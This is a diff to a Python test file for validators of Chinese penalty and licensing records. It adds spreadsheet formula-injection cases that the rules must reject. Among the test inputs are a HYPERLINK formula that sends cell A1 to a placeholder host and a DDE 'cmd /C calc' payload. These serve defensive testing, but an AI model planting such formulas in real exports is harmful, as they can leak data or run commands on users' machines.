@@ -66,6 +66,7 @@ def n(**kw: Any) -> dict[str, Any]:
 
 
 F, P = True, False  # the rule must fail / must pass
+HYPERLINK = '=HYPERLINK("http://x"&A1,"点此查看")'
 Case = tuple[str, str, dict[str, Any], bool]
 
 CASES: list[Case] = [
@@ -257,6 +258,16 @@ CASES: list[Case] = [
     ("both", "COM-SPC-002", o(FRDB="张三"), P),
     ("both", "COM-FW-001", o(XDR_MC="ＡＢＣ某某公司"), F),
     ("both", "COM-FW-001", o(XDR_MC="ABC某某公司，（福州）"), P),
+    # -- spreadsheet formulas (issue 12 item 4): a leading = + - @ or its full-width form --
+    ("both", "COM-FML-001", o(XDR_MC=HYPERLINK), F),
+    ("both", "COM-FML-001", o(XDR_MC="＠某某公司"), F),
+    ("both", "COM-FML-001", o(XDR_MC="某某公司-福州分公司"), P),
+    ("both", "COM-FML-002", o(FRDB="+张三"), F),
+    ("both", "COM-FML-002", o(FRDB="张三"), P),
+    ("both", "COM-FML-003", o(XDR_SYDW="-12345678901"), F),
+    ("both", "COM-FML-003", o(XDR_SYDW="123456789012"), P),
+    ("both", "COM-FML-004", o(XDR_SHZZ="@51350000MJ1"), F),
+    ("both", "COM-FML-004", o(XDR_SHZZ="51350000MJ1234"), P),
     # -- CF requirements (§2) --
     ("cf", "CF-REQ-001", {"CF_WSH": None}, F),
     ("cf", "CF-REQ-001", {}, P),
@@ -462,6 +473,27 @@ CASES: list[Case] = [
     ("cf", "CF-CHR-010", {"BZ": "a\nb"}, P),
     ("cf", "CF-FW-001", {"CF_WSH": "榕市监罚〔２０２４〕12号"}, F),
     ("cf", "CF-FW-001", {}, P),
+    ("cf", "CF-FML-001", {"CF_WSH": HYPERLINK}, F),
+    ("cf", "CF-FML-001", {"CF_WSH": "－罚〔2025〕1号"}, F),
+    ("cf", "CF-FML-001", {"CF_WSH": "罚〔2025〕1号=1"}, P),
+    ("cf", "CF-FML-002", {"CF_WFXW": "=1+1"}, F),
+    ("cf", "CF-FML-002", {}, P),
+    ("cf", "CF-FML-003", {"CF_SY": "＝cmd|' /C calc'!A0"}, F),
+    ("cf", "CF-FML-003", {}, P),
+    ("cf", "CF-FML-004", {"CF_YJ": "+《产品质量法》"}, F),
+    ("cf", "CF-FML-004", {}, P),
+    ("cf", "CF-FML-005", {"CF_NR": "@SUM(1,2)"}, F),
+    ("cf", "CF-FML-005", {}, P),
+    ("cf", "CF-FML-006", {"CF_CFLB": "罚款;暂扣许可证件", "CF_NR_ZKDX": "-1+1"}, F),
+    ("cf", "CF-FML-006", {"CF_CFLB": "罚款;暂扣许可证件", "CF_NR_ZKDX": "食品经营许可证JY1234"}, P),
+    ("cf", "CF-FML-007", {"CF_CFJG": "＋福州市市场监督管理局"}, F),
+    ("cf", "CF-FML-007", {}, P),
+    ("cf", "CF-FML-008", {"CF_SJLY": "=A1"}, F),
+    ("cf", "CF-FML-008", {}, P),
+    ("cf", "CF-FML-009", {"BZ": "=1+1"}, F),
+    ("cf", "CF-FML-009", {"BZ": "＠备注"}, F),
+    ("cf", "CF-FML-009", {"BZ": "-无-"}, P),  # a leading dash is allowed in 备注
+    ("cf", "CF-FML-009", {"BZ": "－见附件"}, P),
     # -- XK requirements (§1) --
     ("xk", "XK-REQ-001", {"XK_XKWS": None}, F),
     ("xk", "XK-REQ-001", {}, P),
@@ -588,6 +620,22 @@ CASES: list[Case] = [
     ("xk", "XK-CHR-009", {"BZ": "备注\n第二行"}, P),
     ("xk", "XK-FW-001", {"XK_WSH": "ＪＹ１２３"}, F),
     ("xk", "XK-FW-001", {}, P),
+    ("xk", "XK-FML-001", {"XK_XKWS": "=1+1"}, F),
+    ("xk", "XK-FML-001", {}, P),
+    ("xk", "XK-FML-002", {"XK_WSH": HYPERLINK}, F),
+    ("xk", "XK-FML-002", {"XK_WSH": "榕食许〔2024〕88-1号"}, P),
+    ("xk", "XK-FML-003", {"XK_XKZS": "@食品经营许可证"}, F),
+    ("xk", "XK-FML-003", {}, P),
+    ("xk", "XK-FML-004", {"XK_XKBH": "-JY13501000012345"}, F),
+    ("xk", "XK-FML-004", {}, P),
+    ("xk", "XK-FML-005", {"XK_NR": "＋准予许可"}, F),
+    ("xk", "XK-FML-005", {}, P),
+    ("xk", "XK-FML-006", {"XK_XKJG": "－福州市市场监督管理局"}, F),
+    ("xk", "XK-FML-006", {}, P),
+    ("xk", "XK-FML-007", {"XK_LYDW": "＝福州市市场监督管理局"}, F),
+    ("xk", "XK-FML-007", {}, P),
+    ("xk", "XK-FML-008", {"BZ": "+86"}, F),
+    ("xk", "XK-FML-008", {"BZ": "-"}, P),
 ]
 
 
